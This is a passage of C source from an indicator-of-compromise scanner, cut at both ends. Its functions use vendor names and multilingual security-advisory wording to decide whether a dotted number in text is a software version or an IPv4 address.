 * alone ("Cisco 192.0.2.1"), nor where the last word names what has an
 * address ("SonicWall VPN Gateway 10.0.0.1", "Cisco Umbrella DNS ...",
 * "the Cisco router 10.0.0.1": a word in lowercase is no product's);
 * those that own clouds are no vendors here ("Amazon EC2 3.1.2.3",
 * "Huawei ECS 1.2.3.4"; their own releases are written otherwise:
 * Huawei's V200R021C10, Oracle's 12.2.1.4.0).
 */
#define PRODUCT_WORDS 4	/* the vendor's last word among them */

static int
vendor_product(const struct ioc_scanner *sc, size_t k)
{
	static const char *const vendors[] = {
		"cisco", "fortinet", "citrix", "netscaler", "ivanti", "pulse",
		"juniper", "sonicwall", "zyxel", "f5", "alto", "veeam",
		"vmware", "atlassian", "progress", "zimbra", "ibm", "sap",
		"adobe", "sophos", "watchguard", "barracuda", "synology",
		"qnap", "hikvision", "dahua", "tp-link", "d-link", "netgear",
		"mikrotik", "ubiquiti", "h3c", "ruijie", "sangfor",
		"connectwise", "kaseya", "solarwinds", "siemens", "moxa",
		"apache", NULL,
	};
	static const char *const nouns[] = {
		"ip", "ips", "ipv4", "address", "addresses", "addr", "host",
		"hosts", "dns", "resolver", "gateway", "proxy", "relay",
		"sinkhole", "c2", "node", "peer", "nat", "vpn", "endpoint",
		"interface", "router", "firewall", "cloud", "instance",
		"sensor", "honeypot", "scanner", "bot", NULL,
	};
	const char *t = sc->text.data;
	size_t b;
	int words;

	for (words = 0; words < PRODUCT_WORDS; words++) {
		if (words > 0 && k >= 2 && t[k - 1] == '&' &&
		    (t[k - 2] == ' ' || t[k - 2] == '\t')) {
			for (k--; k > 0 && (t[k - 1] == ' ' ||
			    t[k - 1] == '\t'); k--)
				;	/* "Backup & Replication" */
		}
		for (b = k; b > 0 && k - b < VERSION_MAX && ((sc->cls[(unsigned
		    char)t[b - 1]] & C_ALNUM) || t[b - 1] == '-'); b--)
			;
		if (words == 0 && os_name(t + b, k - b))
			return 1;
		if (b == k || !((t[b] >= 'A' && t[b] <= 'Z') ||
		    (sc->cls[(unsigned char)t[b]] & C_DIGIT)))
			return 0;
		/* the word before the number names what has an address;
		 * one further back, the vendor */
		if (word_in(t + b, k - b, words > 0 ? vendors : nouns))
			return words > 0;	/* (a noun: 0) */
		if (version_key_before(sc, b))
			return 1;
		if ((k = word_back(sc, k)) == 0)
			return 0;
	}
	return 0;
}

/*
 * "Upgrade BIG-IP to", "upgrade the ASA to", "upgraded F5 BIG-IP to"
 * ending at t[k]: up to UPGRADE_WORDS words between an upgrade and its
 * "to" ("Upgrade BIG-IP to 17.1.0.3"), blanks between them. Not
 * "update": "update DNS to 8.8.8.8" gives an address.
 */
#define UPGRADE_WORDS 3

static int
upgrade_what(const struct ioc_scanner *sc, size_t k)
{
	int words;

	k = word_back(sc, k);	/* past the "to" (word_back(0) is 0) */
	for (words = 0; words < UPGRADE_WORDS; words++) {
		if ((k = word_back(sc, k)) == 0)
			return 0;
		if (upgrade_word(sc, k))
			return 1;
	}
	return 0;
}

/*
 * A product's name, one or two words, ending at t[k] after an upgrade's
 * or an update's "to": "Upgrade to BIG-IP 17.1.0.3", "update to Veeam
 * 12.1.2.172". (An address after "up to two hosts" is none of these.)
 */
static int
upgrade_to_what(const struct ioc_scanner *sc, size_t k)
{
	size_t j;
	int words;

	for (words = 0; words < 2; words++) {
		if ((k = word_back(sc, k)) == 0)
			return 0;
		if (word_before(sc, k, "to") && (j = word_back(sc, k)) != 0 &&
		    update_word(sc, j))
			return 1;
	}
	return 0;
}

/*
 * The words of a security advisory ending at t[k] before a version:
 * "fixed in", "patched in", "resolved in", "addressed in", "introduced
 * in", "upgrade to", "update to", "prior to", "up to", "versions
 * before", "earlier than" (and "later", "older", "newer", "lower",
 * "higher than"), Cisco's "fixed release" ("First Fixed Release:
 * 9.18.2.5"). ("in", "to", "before" and "than" alone are no such
 * words: "hosts in 10.0.0.0/8"; nor is "release": a DHCP server's
 * "release 192.0.2.1".)
 */
static int
advisory_words(const struct ioc_scanner *sc, size_t k)
{
	static const char *const before_in[] = {
		"fixed", "patched", "resolved", "addressed", "introduced",
		/* German's, Italian's "fixed in" */
		"behoben", "corretto", "corretta", "risolto", "risolta", NULL,
	};
	static const char *const before_to[] = { "prior", "up", NULL };
	static const char *const before_before[] = {
		"versions", "version", "builds", "releases", "firmware", NULL,
	};
	static const char *const before_than[] = {
		"earlier", "later", "older", "newer", "lower", "higher", NULL,
	};
	static const char *const before_release[] = { "fixed", "in", NULL };
	const char *const *first;
	size_t w;
	int to = 0;

	if (word_before(sc, k, "in"))
		first = before_in, w = 2;
	else if (word_before(sc, k, "to"))
		first = before_to, w = 2, to = 1;
	else if (word_before(sc, k, "before"))
		first = before_before, w = 6;
	else if (word_before(sc, k, "than"))
		first = before_than, w = 4;
	else if (word_before(sc, k, "release"))
		first = before_release, w = 7;
	else
		return 0;
	if (k < w + 2 || sc->text.data[k - w - 1] != ' ')
		return 0;
	for (; *first; first++)
		if (word_before(sc, k - w - 1, *first))
			return 1;
	return to && (update_word(sc, k - w - 1) || upgrade_what(sc, k));
}

/*
 * advisory_words in the languages other countries' CERTs and vendors
 * write advisories in, ending at t[k]: German "Versionen vor", "bis
 * einschließlich", "Update auf" ("behoben in" is advisory_words', as
 * Italian's "corretto in" is); French "corrigé dans", "antérieures à",
 * "mise à jour vers"; Spanish "corregido en", "anteriores a",
 * "actualizar a"; Italian "precedenti a"; Portuguese "corrigido em",
 * "anteriores à", "atualize para"; and with an article after them,
 * "antérieures à la", "corregido en la", "hasta la", "precedenti
 * alla", "corrigida na". Two words at least: "in", "à", "a", "bis"
 * alone start ranges of addresses too.
 */
static int
intl_advisory_words(const struct ioc_scanner *sc, size_t k)
{
	static const char *const en[] = {
		"corregido", "corregida", "solucionado", "solucionada",
		"resuelto", "resuelta", NULL,
	};
	static const char *const em[] = { "corrigido", "corrigida", NULL };
	static const char *const dans[] = {
		"corrigé", "corrigée", "corrigés", "corrigées", NULL,
	};
	static const char *const vers[] = { "jour", "migrer", NULL };
	static const char *const vor[] = { "version", "versionen", NULL };
	static const char *const einschl[] = { "bis", NULL };
	static const char *const auf[] = {
		"update", "upgrade", "aktualisierung", NULL,
	};
	static const char *const grave[] = {
		"antérieures", "antérieure", "antérieurs", "antérieur",
		"anteriores", NULL,
	};
	static const char *const a[] = {
		"anteriores", "anterior", "actualice", "actualizar",
		"precedenti", "anteriori", "aggiornare", NULL,
	};
	static const char *const para[] = {
		"atualize", "atualizar", "actualice", "actualizar", NULL,
	};
	static const char *const alla[] = {
		"precedenti", "anteriori", "fino", "aggiornare", NULL,
	};
	static const char *const na[] = { "corrigido", "corrigida", NULL };
	const char *t = sc->text.data;
	const char *const *first = NULL;
	size_t w = 0;

	if (k < 2)
		return 0;
	switch ((unsigned char)t[k - 1] | 0x20) {
	case 'n':	/* "in": advisory_words' */
		if (word_before(sc, k, "en"))
			first = en, w = 2;
		break;
	case 'm':
		if (word_before(sc, k, "em"))
			first = em, w = 2;
		break;
	case 's':
		if (word_before(sc, k, "dans"))
			first = dans, w = 4;
		else if (word_before(sc, k, "vers"))
			first = vers, w = 4;
		break;
	case 'r':
		if (word_before(sc, k, "vor"))
			first = vor, w = 3;
		break;
	case 'h':
		if (word_before(sc, k, "einschließlich"))
			first = einschl, w = sizeof("einschließlich") - 1;
		break;
	case 'f':
		if (word_before(sc, k, "auf"))
			first = auf, w = 3;
		break;
	case 0xa0:	/* U+00E0, à: C3 A0 */
		if (word_before(sc, k, "à"))
			first = grave, w = 2;
		break;
	case 'a':
		if (word_before(sc, k, "la") && k > 3 && t[k - 3] == ' ')
			return word_before(sc, k - 3, "hasta") ||
			    intl_advisory_words(sc, k - 3);
		if (word_before(sc, k, "alla"))
			first = alla, w = 4;
		else if (word_before(sc, k, "na"))
			first = na, w = 2;
		else if (word_before(sc, k, "para"))
			first = para, w = 4;
		else if (t[k - 2] == ' ')	/* "a" (word_before takes two
						 * bytes or more) */
			first = a, w = 1;
		break;
	}
	if (first == NULL || k < w + 2 || t[k - w - 1] != ' ')
		return 0;
	for (; *first; first++)
		if (word_before(sc, k - w - 1, *first))
			return 1;
	return 0;
}

/* The word ending at t[k] is a name that ends in "Version", as a
 * program's resources, a .NET assembly or settings name one:
 * "FileVersion", "ProductVersion", "AssemblyFileVersion", "OSVersion"
 * ("conversion" and "diversion" are none; "min_version" is the word
 * "version" to word_before). Asked where t[k - 1] is an 'n'. */
static int
named_version(const struct ioc_scanner *sc, size_t k)
{
	const char *t = sc->text.data;

	return k >= 7 && t[k - 7] == 'V' &&
	    strncasecmp(t + k - 6, "ersion", 6) == 0;
}

/* The whole word ending at t[k] says that a version number follows
 * ("version 1.2.3.4", "rev. 3.0.0.1", "build 1.0.0.12", exiftool's "File
 * Version Number", "firmware 2.1.0.5", "releases 9.12.4.1", a
 * browser's as a User-Agent gives it: "Chrome 120.0.0.0"), or with
 * docs, a document's numbering ("section 3.2.1.4", "table 1.2.3.4",
 * "OID 2.5.4.3"; not as a key: "ARP table: 192.0.2.1" lists an
 * address). Its last byte first: most words before an address are none
 * of these. */
static int
version_word(const struct ioc_scanner *sc, size_t k, int docs)
{
	if (k == 0)
		return 0;
	switch ((unsigned char)sc->text.data[k - 1] | 0x20) {
	case 'n':	/* Spanish, German; Vietnamese "phiên bản" */
		return word_before(sc, k, "version") ||
		    named_version(sc, k) || word_before(sc, k, "revision") ||
		    (docs && word_before(sc, k, "section")) ||
		    advisory_words(sc, k) || word_before(sc, k, "versión") ||
		    word_before(sc, k, "versionen") || (k > 7 &&
		    word_before(sc, k, "bản") && sc->text.data[k - 6] == ' ' &&
		    word_before(sc, k - 6, "phiên")) ||
		    intl_advisory_words(sc, k);
	case 'o':	/* Portuguese, Finnish */
		return advisory_words(sc, k) || word_before(sc, k, "versão") ||
		    word_before(sc, k, "versio");
	case 'r':
		return word_before(sc, k, "ver") ||
		    word_before(sc, k, "pkgver") ||
		    word_before(sc, k, "versioner") || (k > 7 &&
		    word_before(sc, k, "number") &&
		    (word_before(sc, k - 7, "version") ||
		    word_before(sc, k - 7, "build"))) || (k > 11 &&
		    word_before(sc, k, "identifier") &&
		    word_before(sc, k - 11, "object")) ||
		    (docs && word_before(sc, k, "chapter")) ||
		    intl_advisory_words(sc, k);
	case 's':
		return word_before(sc, k, "versions") ||
		    word_before(sc, k, "releases") ||
		    word_before(sc, k, "versiones") ||
		    word_before(sc, k, "versões") ||
		    word_before(sc, k, "versies") ||
		    (docs && word_before(sc, k, "sections")) ||
		    intl_advisory_words(sc, k);
	case '.':
		return word_before(sc, k, "ver.") ||
		    word_before(sc, k, "rev.") || (docs &&
		    (word_before(sc, k, "sec.") ||
		    word_before(sc, k, "sect.") || word_before(sc, k, "fig.")));
	case 'v':
		return word_before(sc, k, "rev");
	case 'd':	/* an OID as a key's value too: "oid=2.5.29.15" */
		return word_before(sc, k, "build") || word_before(sc, k, "oid");
	case 'e':
		return word_before(sc, k, "firmware") ||
		    word_before(sc, k, "software") || (k > 8 &&
		    word_before(sc, k, "release") &&
		    word_before(sc, k - 8, "software")) ||
		    word_before(sc, k, "chrome") ||
		    word_before(sc, k, "msie") || (docs &&
		    (word_before(sc, k, "table") ||
		    word_before(sc, k, "figure") ||
		    word_before(sc, k, "clause"))) ||
		    advisory_words(sc, k) || word_before(sc, k, "versione") ||
		    word_before(sc, k, "versie") || word_before(sc, k, "verze") ||
		    word_before(sc, k, "wersje");	/* it, nl, cs, pl */
	case 'w':
		return word_before(sc, k, "fw");
	case 'l':
		return word_before(sc, k, "kernel");
	case 'x':	/* "Linux 3.10.14.2", SNMP's sysDescr */
		return word_before(sc, k, "firefox") ||
		    word_before(sc, k, "hotfix") ||
		    word_before(sc, k, "linux") ||
		    (docs && word_before(sc, k, "appendix"));
	case 'm':	/* "upgrade from 9.16.4.42 to 9.18.2.5" */
		return word_before(sc, k, "chromium") || (k > 5 &&
		    word_before(sc, k, "from") &&
		    sc->text.data[k - 5] == ' ' && upgrade_word(sc, k - 5)) ||
		    word_before(sc, k, "sürüm") ||	/* Turkish */
		    intl_advisory_words(sc, k);
	case 'i':	/* Italian, Polish, Indonesian, Romanian */
		return word_before(sc, k, "safari") ||
		    word_before(sc, k, "versioni") ||
		    word_before(sc, k, "wersji") || word_before(sc, k, "versi") ||
		    word_before(sc, k, "versiunii");
	case 'a':	/* Polish "wersja oprogramowania" (software's) */
		return word_before(sc, k, "opera") ||
		    word_before(sc, k, "wersja") ||
		    word_before(sc, k, "versiunea") ||
		    word_before(sc, k, "oprogramowania") ||
		    intl_advisory_words(sc, k);
	case 'h': case 'f':	/* German's */
		return intl_advisory_words(sc, k);
	case 0xa0:	/* French's à; Korean's 은 ends so too */
		if (intl_advisory_words(sc, k))
			return 1;
		break;
	case 0xa7:	/* U+00A7, the section sign: C2 A7 */
		if (docs && k >= 2 &&
		    (unsigned char)sc->text.data[k - 2] == 0xc2)
			return 1;
		break;
	}
	return intl_version_word(sc, k) || cjk_version_word(sc, k, docs);
}

/* "Version 1.8 (1.8.2.5)", "v2.1 (2.1.0.5)": a version number in
 * parentheses after another (t[p] the '('), which itself follows a
 * version_word or "v". */
static int
version_paren(const struct ioc_scanner *sc, size_t p)
{
	const char *t = sc->text.data;
	size_t k = p, e;

	while (k > 0 && (t[k - 1] == ' ' || t[k - 1] == '\t'))
		k--;
	for (e = k; k > 0 && e - k < VERSION_MAX && ((sc->cls[(unsigned
	    char)t[k - 1]] & C_ALNUM) || t[k - 1] == '.'); k--)
		;
	if (k == e || (k > 0 && ((sc->cls[(unsigned char)t[k - 1]] &
	    C_ALNUM) || t[k - 1] == '.')))
		return 0;	/* no number, or a word too long for one */
	if ((t[k] | 0x20) == 'v' && k + 1 < e && t[k + 1] >= '0' &&
	    t[k + 1] <= '9')
		return 1;	/* "v2.1" */
	if (t[k] < '0' || t[k] > '9')
		return 0;
	while (k > 0 && (t[k - 1] == ' ' || t[k - 1] == '\t'))
		k--;
	if (k > 0 && (t[k - 1] == '=' || t[k - 1] == ':')) {
		k--;
		while (k > 0 && (t[k - 1] == ' ' || t[k - 1] == '\t'))
			k--;
	}
	return version_word(sc, k, 1);
}

/* Whether t[a..e) holds "version", in any case. */
static int
has_version(const char *t, size_t a, size_t e)
{
	for (; a + 7 <= e; a++)
		if ((t[a] | 0x20) == 'v' && strncasecmp(t + a, "version", 7) == 0)
			return 1;
	return 0;
}

/*
 * The text of an XML element that a version's name holds, t[k - 1] the
 * '>' before the number: "<version>9.1.2.3" (Maven's, NuGet's),
 * "<AssemblyVersion>1.0.0.2", a property list's
 * "<key>CFBundleShortVersionString</key><string>1.2.3.4" (an app's
 * Info.plist, as a report on a Mac sample quotes it).
 */
static int
xml_version(const struct ioc_scanner *sc, size_t k)
{
	const char *t = sc->text.data;
	size_t e = k - 1, b, ke;

	for (b = e; b > 0 && e - b < 64 && ((sc->cls[(unsigned
	    char)t[b - 1]] & C_ALNUM) || t[b - 1] == '_' || t[b - 1] == '-' ||
	    t[b - 1] == ':'); b--)
		;
	if (b == e || b == 0 || t[b - 1] != '<')
		return 0;
	if (e - b >= 7 && strncasecmp(t + e - 7, "version", 7) == 0)
		return 1;
	if (e - b != 6 || memcmp(t + b, "string", 6) != 0)
		return 0;
	for (ke = b - 1; ke > 0 && (t[ke - 1] == ' ' || t[ke - 1] == '\t' ||
	    t[ke - 1] == '\n' || t[ke - 1] == '\r'); ke--)
		;
	if (ke < 7 || memcmp(t + ke - 6, "</key>", 6) != 0)
		return 0;
	for (b = ke - 6; b > 0 && ke - 6 - b < 64 && t[b - 1] != '>'; b--)
		;
	return b > 0 && has_version(t, b, ke - 6);
}

static int version_at(struct ioc_scanner *sc, size_t a, int depth);
static inline int small_first(const struct ioc_scanner *sc, size_t a);
static int version_after(const struct ioc_scanner *sc, size_t a);

#define VERSION_CHAIN 8	/* versions listed after the first, at most */

/*
 * A version listed after another, t[k] the end of what joins them:
 * "versions 2.0.0.1 through 2.0.0.9", "build 8.0.0.1 and 8.0.0.2",
 * "v1.0.0.1, 1.0.0.2 or 1.0.0.3". Addresses are listed so too: the one
 * before decides ("hosts 192.0.2.1 and 192.0.2.2").
 */
static int
version_chain(struct ioc_scanner *sc, size_t k, int depth)
{
	const char *t = sc->text.data, *join;
	size_t e;

	if (depth >= VERSION_CHAIN || k == 0)
		return 0;
	switch (t[k - 1] | 0x20) {	/* asked before each address */
	case ',': case '-': case '&':
		join = ",";
		break;
	case 'h':
		join = "through";
		break;
	case 'u':
		join = "thru";
		break;
	case 'd':
		join = "and";
		break;
	case 'r':
		join = "or";
		break;
	case 'o':
		join = "to";
		break;
	case 'l':
		join = "until";
		break;
	default:
		return 0;
	}
	if (join[1] != '\0' && !word_before(sc, k, join))
		return 0;
	k -= strlen(join);
	while (k > 0 && (t[k - 1] == ' ' || t[k - 1] == '\t'))
		k--;
	if (k > 0 && t[k - 1] == ',')	/* "1.0.0.1, and 1.0.0.2" */
		k--;
	for (e = k; k > 0 && e - k < VERSION_MAX && ((sc->cls[(unsigned
	    char)t[k - 1]] & C_ALNUM) || t[k - 1] == '.'); k--)
		;
	if (k == e || memchr(t + k, '.', e - k) == NULL)
		return 0;
	if ((t[k] | 0x20) == 'v' && k + 1 < e &&
	    (sc->cls[(unsigned char)t[k + 1]] & C_DIGIT))
		return 1;	/* "v1.0.0.1, 1.0.0.2" */
	if (k == sc->version_a)	/* the one before, asked: a list of any
				 * length is read in one pass */
		return sc->version_yes;
	/* version_before's question, the words after it too ("8.0.0.0 -
	 * 5.5.2- 198.51.100.7"): the answer must not hang on whether
	 * the one before was asked last */
	return (sc->cls[(unsigned char)t[k]] & C_DIGIT) &&
	    (version_at(sc, k, depth + 1) ||
	    (small_first(sc, k) && version_after(sc, k)));
}

/* The bytes of a dash at t (n bytes): '-', or in UTF-8 one a word
 * processor writes for it (U+2010 to U+2014, U+2212: "CVE\u20112024"
 * copied from a document); 0 when there is none. */
static size_t
dash_len(const char *t, size_t n)
{
	const unsigned char *u = (const unsigned char *)t;

	if (n >= 1 && u[0] == '-')
		return 1;
	if (n >= 3 && u[0] == 0xe2 && ((u[1] == 0x80 && u[2] >= 0x90 &&
	    u[2] <= 0x94) || (u[1] == 0x88 && u[2] == 0x92)))
		return 3;
	return 0;
}

/* A dash or '~' with a blank either side at t (n bytes): " - ", " – ",
 * " ~ "; its bytes, 0 when there is none. */
static size_t
spaced_dash(const char *t, size_t n)
{
	size_t d;

	if (n < 3 || t[0] != ' ')
		return 0;
	d = t[1] == '~' ? 1 : dash_len(t + 1, n - 1);
	return d != 0 && d + 2 < n && t[d + 1] == ' ' ? d + 2 : 0;
}

/* "至" or "到" (to) between the two ends of a range at t (n bytes), a
 * blank either side or none: its bytes, 0 when there is none. */
static size_t
cjk_to(const char *t, size_t n)
{
	size_t k = n > 0 && t[0] == ' ';

	if (n < k + 3 || (memcmp(t + k, "至", 3) != 0 &&
	    memcmp(t + k, "到", 3) != 0))
		return 0;
	return k + 3 + (n > k + 3 && t[k + 3] == ' ');
}

/* The number at t[a] (a digit) starts under 32, as a version's does
 * and most addresses' do not: version_after's first test, inline, as
 * most addresses fail it (a digit at t[a + 1] is before the text's
 * closing NUL). */
static inline int
small_first(const struct ioc_scanner *sc, size_t a)
{
	const char *t = sc->text.data;

	return !((sc->cls[(unsigned char)t[a + 1]] & C_DIGIT) &&
	    ((sc->cls[(unsigned char)t[a + 2]] & C_DIGIT) ||
	    (t[a] - '0') * 10 + (t[a + 1] - '0') >= 32));
}

/*
 * A version that cannot be an address at t[k]: three numbers, the first
 * under 32 ("17.1.1", "7.2.7."); what a range or an upgrade goes to
 * ("BIG-IP 17.1.0.3 to 17.1.1", "9.16.4.42 - 9.16.5", "7.2.5.1-7.2.7"),
 * which makes the number before it a version too.
 */
static int
upgrade_to(const struct ioc_scanner *sc, size_t k)
{
	const char *t = sc->text.data;
	size_t n = sc->text.len, parts = 0, d;

	if (k == 0 || k >= n || !small_first(sc, k))
		return 0;
	for (;;) {
		for (d = k; k < n && k < d + 3 &&
		    (sc->cls[(unsigned char)t[k]] & C_DIGIT); k++)
			;
		if (k == d || (sc->cls[(unsigned char)t[k]] & C_DIGIT))
			return 0;
		parts++;
		if (t[k] != '.' || k + 1 >= n ||
		    !(sc->cls[(unsigned char)t[k + 1]] & C_DIGIT))
			break;
		k++;
	}
	return parts == 3;
}

/* Where what joins a range or an upgrade after the blank at t[j] ends:
 * " to ", " through ", " thru ", " - ", " ~ " (its last blank past);
 * 0 when none does. */
static size_t
version_to(const struct ioc_scanner *sc, size_t j)
{
	static const char *const words[] = { "to ", "through ", "thru ",
	    NULL };
	const char *t = sc->text.data;
	size_t n = sc->text.len, i, w;

	if ((w = spaced_dash(t + j, n - j)) != 0)
		return j + w;
	for (i = 0; words[i]; i++) {
		w = strlen(words[i]);
		if (n - j - 1 > w && strncasecmp(t + j + 1, words[i], w) == 0)
			return j + 1 + w;
	}
	return 0;
}

/*
 * Chinese words at t[j] (after a number and a blank if any) that say
 * the number was a version: "版本" and "的版本" (version), "及之前",
 * "及以前", "及更早", "之前", "以前" (and earlier), "及以下", "以下"
 * (and below), "及以上" (and above; not "以上" alone, "the above":
 * "198.51.100.7 以上IP"); Korean's "및 이전" (and earlier), "이하", "버전"
 * (not "이전" alone: a server's move too); or a range to another number
 * that they follow ("2.0.0.0 至 2.14.1.0 版本").
 */
static int
cjk_version_after(const struct ioc_scanner *sc, size_t j, int range)
{
	static const char *const words[] = {
		"版本", "的版本", "及之前", "及以前", "及更早", "之前", "以前",
		"及以下", "以下", "及以上", "및 이전", "이하", "버전", NULL,
	};
	const char *t = sc->text.data;
	size_t n = sc->text.len, i, w;

	for (i = 0; words[i]; i++)
		if (n - j >= (w = strlen(words[i])) &&
		    memcmp(t + j, words[i], w) == 0)
			return 1;
	if (!range || n - j < 4 || (memcmp(t + j, "至", 3) != 0 &&
	    memcmp(t + j, "到", 3) != 0))
		return 0;
	for (j += 3; j < n && t[j] == ' '; j++)
		;
	for (i = j; j < n && ((sc->cls[(unsigned char)t[j]] & C_DIGIT) ||
	    t[j] == '.'); j++)
		;
	if (j == i)
		return 0;
	return cjk_version_after(sc, j + (t[j] == ' '), 0);
}

/* A build's number and letters after a version's dash at t[j], two of
 * each or more: SonicWall's "10.2.1.9-57sv"; a range's end is digits
 * alone ("10.2.1.9-20"), a host's name letters first ("10.2.1.9-dsl"),
 * and "10.2.1.9-6x" is too little to say. */
static int
build_suffix(const struct ioc_scanner *sc, size_t j)
{
	const char *t = sc->text.data;
	size_t d = j;

	while (sc->cls[(unsigned char)t[j]] & C_DIGIT)
		j++;
	if (j - d < 2)
		return 0;
	for (d = j; (sc->cls[(unsigned char)t[j]] & C_ALNUM) &&
	    !(sc->cls[(unsigned char)t[j]] & C_DIGIT); j++)
		;
	return j - d >= 2 && !(sc->cls[(unsigned char)t[j]] & C_ALNUM) &&
	    t[j] != '.' && t[j] != '-';
}

/* A kernel's build after its release at t[j] (past the '#'), as uname
 * and SNMP's sysDescr give it: "2.6.36.4 #1 SMP", "2.6.24.111 #22164
 * Mon Jul 15 2013", "#1 PREEMPT". */
static int
uname_build(const struct ioc_scanner *sc, size_t j)
{
	static const char *const words[] = { "SMP", "PREEMPT", "Mon", "Tue",
		"Wed", "Thu", "Fri", "Sat", "Sun", NULL };
	const char *t = sc->text.data;
	size_t d = j, i, w;

	while (sc->cls[(unsigned char)t[j]] & C_DIGIT)
		j++;
	if (j == d || t[j] != ' ')
		return 0;
	for (i = 0, j++; words[i]; i++)
		if (strncmp(t + j, words[i], (w = strlen(words[i]))) == 0 &&
		    !(sc->cls[(unsigned char)t[j + w]] & C_ALNUM))
			return 1;
	return 0;
}

/* "and earlier" (or "and below", "and older") in the languages other
 * countries' CERTs write advisories in, at t[j] after a number and a
 * blank: "7.2.4.1 y anteriores", "e anteriores", "e precedenti", "und
 * älter", "et antérieures", "i starsze", "ve öncesi", "и ниже". Not
 * before an address ("... y anteriores 198.51.100.9"). */
static int
intl_version_after(const struct ioc_scanner *sc, size_t j)
{
	static const char *const words[] = {
		"y anteriores", "y inferiores", "e anteriores",
		"e inferiores", "e precedenti", "e inferiori", "und älter",
		"und früher", "und niedriger", "et antérieures",
		"et inférieures", "i starsze", "i wcześniejsze", "ve öncesi",
		"ve altı", "и ниже", "и ранее", "и более ранние", "і нижче",
		"і раніше", "en eerder", "en lager", NULL,
	};
	const char *t = sc->text.data;
	size_t n = sc->text.len, i, w;

	switch ((unsigned char)t[j]) {	/* the words' first bytes */
	case 'y': case 'e': case 'u': case 'i': case 'v': case 0xd0:
	case 0xd1:
		break;
	default:	/* most: "198.51.100.7 scanned" */
		return 0;
	}
	for (i = 0; words[i]; i++) {
		w = strlen(words[i]);
		if (t[j] != words[i][0] || n - j < w ||
		    memcmp(t + j, words[i], w) != 0 ||
		    (sc->cls[(unsigned char)t[j + w]] & C_ALNUM))
			continue;
		for (j += w; j < n && (t[j] == ' ' || t[j] == '\t'); j++)
			;
		return !(sc->cls[(unsigned char)t[j]] & C_DIGIT);
	}
	return 0;
}

/*
 * Words after the number at t[a] that say it was a version, as an
 * advisory lists the releases it affects: "9.16.3.19 and earlier" (or
 * "and later", "and prior", "or older", "or newer", "or higher", "or
 * lower", "and below", "and above"; in Chinese, cjk_version_after).
 * Asked when its first number is under 32 (small_first).
 */
static int __attribute__((noinline))
version_after(const struct ioc_scanner *sc, size_t a)
{
	static const char *const words[] = {
		"earlier", "later", "prior", "older", "newer", "higher",
		"lower", "below", "above", NULL,
	};
	const char *t = sc->text.data;
	size_t n = sc->text.len, j = a, i, w;

	while (j < n && ((sc->cls[(unsigned char)t[j]] & C_DIGIT) ||
	    t[j] == '.'))
		j++;
	if (t[j] == ':' && n - j >= 10 && memcmp(t + j, ": Flags = ", 10) == 0)
		return 1;	/* certutil's dump: "2.5.29.37: Flags = 0" */
	if (t[j] == '-' || (unsigned char)t[j] == 0xe2)
		return upgrade_to(sc, j + dash_len(t + j, n - j)) ||
		    (t[j] == '-' && build_suffix(sc, j + 1));
	if ((unsigned char)t[j] >= 0xe4 || (t[j] == ' ' &&
	    (unsigned char)t[j + 1] >= 0xe4))
		return cjk_version_after(sc, j + (t[j] == ' '), 1);
	if (j + 4 >= n || t[j] != ' ')	/* most: "198.51.100.7 dst=" */
		return 0;
	if (t[j + 1] == '#')
		return uname_build(sc, j + 2);
	if ((t[j + 1] | 0x20) == 't' || t[j + 1] == '-' || t[j + 1] == '~' ||
	    (unsigned char)t[j + 1] == 0xe2)
		return upgrade_to(sc, version_to(sc, j));
	if ((t[j + 1] | 0x20) == 'a' && strncasecmp(t + j + 1, "and ", 4) == 0)
		j += 5;
	else if ((t[j + 1] | 0x20) == 'o' && strncasecmp(t + j + 1, "or ",
	    3) == 0)
		j += 4;
	else
		return intl_version_after(sc, j + 1);
	for (i = 0; words[i]; i++) {
		w = strlen(words[i]);
		if (j + w > n || strncasecmp(t + j, words[i], w) != 0 ||
		    (sc->cls[(unsigned char)t[j + w]] & C_ALNUM))
			continue;
		/* not "... and later 198.51.100.9": an address follows */
		for (j += w; j < n && (t[j] == ' ' || t[j] == '\t'); j++)
			;
		return !(sc->cls[(unsigned char)t[j]] & C_DIGIT);
	}
	return 0;
}

/* "v" right before, or a version_word before, as a key too ("v=",
 * "version: "), or a version number in parentheses after another
 * (version_paren), or listed after one (version_chain), or words after
 * it that say so (version_after): a version number, not an address. A
 * phone number (phone_before) is none either. */
static int
version_before(struct ioc_scanner *sc, size_t a)
{
	sc->version_yes = version_at(sc, a, 0) ||
	    (small_first(sc, a) && version_after(sc, a));
	sc->version_a = a;		/* kept for the next in a list */
	return sc->version_yes;
}

/*
 * The word ending at t[k] says that a phone number follows ("Tel:",
 * "Fax", "Tél.", "电话："), or a country's calling code stands there
 * ("+32 2.123.45.67", "+41 44.123.45.67"): a signature's number that
 * dots write as an address, which notified would be mail to a network
 * that did nothing.
 */
static int
phone_before(const struct ioc_scanner *sc, size_t k)
{
	static const char *const words[] = {
		"tel", "t\xc3\xa9l", "tel.", "t\xc3\xa9l.", "mob.", "phone",
		"telephone", "t\xc3\xa9l\xc3\xa9phone", "mobile", "fax",
		"telefon", "telefono", "tel\xc3\xa9\x66ono",
		"\xe7\x94\xb5\xe8\xaf\x9d", "\xe9\x9b\xbb\xe8\xa9\xb1",
		"\xe4\xbc\xa0\xe7\x9c\x9f", "\xe6\x89\x8b\xe6\x9c\xba",
		NULL,
	};
	const char *t = sc->text.data;
	size_t d, i;

	if (k == 0)
		return 0;
	switch ((unsigned char)t[k - 1] | 0x20) {
	case 'l': case '.': case 'e': case 'x': case 'n': case 'o':
	case 0xbd: case 0xb1: case 0xbf: case 0xba:	/* CJK's */
		break;
	default:	/* most words before an address; or a code */
		for (d = k; d > 0 && k - d < 3 &&
		    (sc->cls[(unsigned char)t[d - 1]] & C_DIGIT); d--)
			;
		return d < k && d > 0 && t[d - 1] == '+' && (d == 1 ||
		    !(sc->cls[(unsigned char)t[d - 2]] & C_ALNUM));
	}
	for (i = 0; words[i]; i++)
		if (word_before(sc, k, words[i]))
			return 1;
	return 0;
}

/* version_before, depth versions into a list (version_chain). */
static int
version_at(struct ioc_scanner *sc, size_t a, int depth)
{
	const char *t = sc->text.data;
	size_t k = a;
	int blank = 0, key = 0, quote = 0;

	if (k > 0 && (t[k - 1] == '"' || t[k - 1] == '\''))
		k--, quote = 1;	/* a value in quotes: "version": "1.2.0.3" */
	while (k > 0 && (t[k - 1] == ' ' || t[k - 1] == '\t'))
		k--, blank = 1;
	if (k > 0 && (t[k - 1] == '=' || t[k - 1] == ':' ||
	    (quote && t[k - 1] == '(') || (quote && k >= 2 &&
	    t[k - 1] == ',' && t[k - 2] == t[a - 1]))) {
